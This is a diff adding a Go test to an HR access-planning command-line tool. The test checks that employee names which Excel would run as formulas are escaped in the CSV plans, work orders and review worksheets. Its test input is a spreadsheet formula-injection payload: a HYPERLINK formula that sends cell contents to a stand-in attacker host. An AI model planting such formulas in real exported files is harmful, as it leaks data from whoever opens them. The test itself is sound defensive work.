@@ -347,3 +347,43 @@ func between(s, from string, n int) string {
 	}
 	return s[i:min(len(s), i+n)]
 }
+
+// TestExcelOutputsRunNoFormulas: a name from the HR feed that Excel would
+// run as a formula is written as text in every CSV meant for Excel (the
+// plan as CSV, the work orders, the review worksheets).
+func TestExcelOutputsRunNoFormulas(t *testing.T) {
+	dir, cfg, plan := planned(t)
+	formula := `=HYPERLINK("http://evil.example/?"&A1,"詳細")`
+	replaceIn(t, filepath.Join(dir, "people.csv"), "E1030,小川 千尋", `E1030,"`+strings.ReplaceAll(formula, `"`, `""`)+`"`)
+	runCLI(t, "plan", "--config", cfg, "--as-of", "2026-11-24", "--out", plan, "--by", "E1001")
+	stdout, _, _ := runCLI(t, "show", "--format", "csv", plan)
+	if !strings.Contains(stdout, `"'=HYPERLINK(""http://evil`) || strings.Contains(stdout, `,"=HYPERLINK`) {
+		t.Errorf("show --format csv: %s", between(stdout, "HYPERLINK", 40))
+	}
+	runCLI(t, "approve", plan, "--by", "E1002", "--config", cfg)
+	if _, stderr, code := runApply(t, cfg, plan); code != 0 {
+		t.Fatal(stderr)
+	}
+	orders, _ := filepath.Glob(filepath.Join(dir, "p.workorders", "*.csv"))
+	found := false
+	for _, o := range orders {
+		data, _ := os.ReadFile(o)
+		found = found || strings.Contains(string(data), `"'=HYPERLINK(`)
+		if strings.Contains(string(data), `,"=HYPERLINK`) {
+			t.Errorf("%s runs the formula", o)
+		}
+	}
+	if !found {
+		t.Error("no work order names the leaver")
+	}
+	camp := filepath.Join(dir, "camp")
+	if _, stderr, code := runCLI(t, "certify", "open", "--config", cfg, "--campaign", "Q4", "--out", camp, "--as-of", "2026-11-24"); code != 0 {
+		t.Fatal(stderr)
+	}
+	sheets, _ := filepath.Glob(filepath.Join(camp, "*.csv"))
+	for _, s := range sheets {
+		if data, _ := os.ReadFile(s); strings.Contains(string(data), `,"=HYPERLINK`) {
+			t.Errorf("%s runs the formula", s)
+		}
+	}
+}
